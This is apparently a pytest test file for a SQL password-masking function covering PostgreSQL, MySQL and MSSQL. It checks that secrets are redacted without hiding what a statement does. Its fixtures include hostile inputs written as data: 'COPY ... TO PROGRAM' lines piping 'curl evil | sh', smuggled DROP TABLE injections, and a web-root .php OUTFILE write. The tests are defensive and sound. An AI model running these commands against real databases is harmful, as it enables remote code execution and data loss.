"""A statement without its password: nothing of that is left, and nothing of what anybody did is gone."""

# ruff: noqa: E501  statements are as long as they are

from __future__ import annotations

import time

import pytest

from collectors.conceal import without_passwords
from collectors.formats.sql_lexer import Dialect
from collectors.passwords import masked

SECRET = "hunter-22"
SETTING: list[tuple[Dialect, str]] = [
    ("postgresql", "ALTER ROLE bob PASSWORD /* x */ 'hunter-22'"),
    ("postgresql", "ALTER ROLE bob PASSWORD -- c\n'hunter-22'\n'hunter-22'"),
    ("postgresql", "ALTER ROLE bob PASSWORD $$hunter-22$$"),
    ("postgresql", "ALTER ROLE bob PASSWORD $a$hunter-22$a$"),
    ("postgresql", "ALTER ROLE bob PASSWORD E'aa\\'hunter-22'"),
    ("postgresql", "ALTER ROLE bob PASSWORD'aa''hunter-22'"),
    ("postgresql", "ALTER ROLE bob PASSWORD" + " " * 40 + "'hunter-22'"),
    ("postgresql", "CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'bob', \"password\" 'hunter-22')"),
    ("postgresql", "CREATE SUBSCRIPTION s CONNECTION 'host=x password = hunter-22 dbname=y' PUBLICATION p"),
    ("postgresql", "CREATE SUBSCRIPTION s CONNECTION 'host=x password=''hunter-22'' dbname=y' PUBLICATION p"),
    ("postgresql", "CREATE SUBSCRIPTION s CONNECTION 'postgresql://bob:hunter-22@db/x' PUBLICATION p"),
    ("postgresql", "DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ''hunter-22'''; END $$"),
    ("postgresql", "UPDATE u SET password = crypt( 'hunter-22', gen_salt('bf'))"),
    ("postgresql", "DO LANGUAGE plpgsql $$ BEGIN ALTER ROLE bob PASSWORD 'hunter-22'; END $$"),
    ("mssql", "EXEC p; ALTER LOGIN bob WITH PASSWORD = 'hunter-22'"),
    ("mysql", "PREPARE s FROM @q; SET PASSWORD = 'hunter-22'"),
    ("mysql", "CREATE USER bob IDENTIFIED /*!50000 BY */ 'hunter-22'"),
    ("mysql", "CREATE USER bob IDENTIFIED BY 'aa' \"hunter-22\""),
    ("mysql", "CREATE USER bob IDENTIFIED BY \"aa\"\"hunter-22\""),
    ("mysql", "CREATE USER bob IDENTIFIED BY 'aa\\'hunter-22'"),
    ("mysql", "CREATE USER bob IDENTIFIED WITH p BY 'hunter-22' REPLACE 'hunter-22'"),
    ("mysql", "CREATE USER bob IDENTIFIED VIA a USING 'hunter-22' OR b USING PASSWORD('hunter-22') OR c USING 'hunter-22'"),
    ("mysql", "SET PASSWORD FOR 'a=b'@'%' = 'hunter-22'"),
    ("mysql", "SET PASSWORD FOR bob@localhost TO 'hunter-22'"),
    ("mssql", "ALTER LOGIN bob WITH PASSWORD = N'hunter-22' OLD_PASSWORD = 'hunter-22'"),
    ("mssql", "CREATE LOGIN bob WITH PASSWORD = 0x0200 HASHED"),
    ("mssql", "EXEC ('ALTER LOGIN x WITH PASSWORD = ''hunter-22''')"),
    ("mssql", "EXEC sp_password 'hunter-22', N'hunter-22', 'bob'"),
    ("mssql", "sp_password @old='hunter-22', @new='hunter-22', @loginame='bob'"),
    ("mssql", "EXEC sp_addlogin @passwd='hunter-22', @loginame='bob'"),
    ("mssql", "EXEC master..sp_addlinkedsrvlogin 's', 'false', NULL, 'sa', 'hunter-22'"),
]  # fmt: skip


@pytest.mark.parametrize(("dialect", "statement"), SETTING)
def test_a_password_is_masked_however_its_dialect_may_write_it(dialect: Dialect, statement: str) -> None:
    said, secrets = masked(statement, dialect)
    assert SECRET not in said
    assert "0x0200" not in said
    assert secrets
    first = statement.index(secrets[0][0])
    assert said[:first] == statement[:first]


HIDING: list[tuple[Dialect, str]] = [
    ("postgresql", "SELECT 'secret'; DROP TABLE customers; SELECT 'x'"),
    ("postgresql", "SELECT 'my password '; DROP TABLE customers; SELECT ' x'"),
    ("postgresql", "/* password ' */ COPY (SELECT 1) TO PROGRAM 'curl evil'; DROP TABLE customers"),
    ("postgresql", "-- PASSWORD '\nDROP TABLE customers; -- '"),
    ("postgresql", "SELECT \"password '\"; DROP TABLE customers; SELECT ' '"),
    ("postgresql", "SELECT $$password $$; DROP TABLE customers; SELECT $$ $$"),
    ("postgresql", "COPY secret TO '/srv/www/customers.csv'"),
    ("postgresql", "COPY t TO PROGRAM 'x password=;curl${IFS}evil|sh'"),
    ("postgresql", "COPY t TO PROGRAM 'x password=''; curl evil | sh; '''"),
    ("postgresql", "COPY t TO PROGRAM 'echo password ''; curl evil | sh; '''"),
    ("postgresql", "CREATE FUNCTION identified() RETURNS int LANGUAGE sql AS 'DROP TABLE customers'"),
    ("postgresql", "DO LANGUAGE plpython3u $$\n# password '\nimport os\n# ' $$"),
    ("postgresql", "UPDATE u SET password = query_to_xml('DELETE FROM customers', true, true, '')"),
    ("postgresql", "DO $$ DECLARE secret text; BEGIN secret = 'DROP TABLE customers'; EXECUTE secret; END $$"),
    ("mysql", "SELECT 1 password FOR UPDATE; SET @a = 'DROP TABLE customers'; PREPARE s FROM @a"),
    ("mysql", "BEGIN NOT ATOMIC SET secret = 'DROP TABLE customers'; EXECUTE IMMEDIATE secret; END"),
    ("mysql", "SET @secret = 'DROP TABLE customers'; EXECUTE IMMEDIATE @secret"),
    ("mysql", "CREATE USER bob IDENTIFIED BY 'x\\'; DROP TABLE customers; -- '"),
    ("mysql", "# IDENTIFIED BY '\nDROP TABLE customers; # '"),
    ("mysql", "UPDATE t SET a = REPLACE(a, 'x', 'y')"),
    ("mysql", "SELECT secret INTO OUTFILE '/srv/www/x.php' FROM t"),
    ("mssql", "DECLARE @password nvarchar(99) = N'DROP TABLE customers'; EXEC(@password)"),
    ("mssql", "SELECT @a = 1, @password = 'DROP TABLE customers'; EXEC(@password)"),
    ("mssql", "EXEC secret 'DROP TABLE customers'"),
    ("mssql", "EXEC dbo.password N'DROP TABLE customers'"),
    ("mssql", "RESTORE DATABASE secret FROM DISK = 'y' WITH REPLACE"),
]  # fmt: skip


@pytest.mark.parametrize(("dialect", "statement"), HIDING)
def test_nothing_that_was_done_can_be_made_to_look_like_a_password(dialect: Dialect, statement: str) -> None:
    said, _ = masked(statement, dialect)
    shown = [part for part in ("DROP TABLE", "customers", "curl", "import os", "x.php", "'y'") if part in statement]
    assert shown
    assert [part for part in shown if part not in said] == []


def test_a_line_that_is_no_whole_statement_loses_one_word_at_most() -> None:
    assert (
        without_passwords("SELECT 'my secret '; DROP TABLE t; SELECT 'x'")
        == "SELECT 'my secret '?; DROP TABLE t; SELECT 'x'"
    )
    assert without_passwords("/* password ' */ DROP TABLE t") == "/* password '? */ DROP TABLE t"
    assert without_passwords("with password 'hunter-22';") == "with password '?';"
    assert without_passwords("amqp://bob:hunter-22@mq/x") == "amqp://bob:?@mq/x"


@pytest.mark.parametrize("worst", [
    "PASSWORD ", "PASSWORD 'x' ", "PASSWORD=PASSWORD(", "IDENTIFIED BY ", "IDENTIFIED VIA a USING 'x' OR b ", "PASSWORD FOR a ",
    "EXEC sp_addlogin 'a','b',", "a://", "a://b:c", "password = '", "$$password ", "EXEC('password = ''x''')", "md5(",
])  # fmt: skip
@pytest.mark.parametrize("dialect", ["postgresql", "mysql", "mssql"])
def test_a_statement_made_to_take_long_takes_no_longer_than_its_length(worst: str, dialect: Dialect) -> None:
    text = "PASSWORD = " + worst * (100_000 // len(worst))
    started = time.process_time()
    masked(text, dialect)
    without_passwords(text)
    assert time.process_time() - started < 3  # half a second where it is linear, minutes where it is not
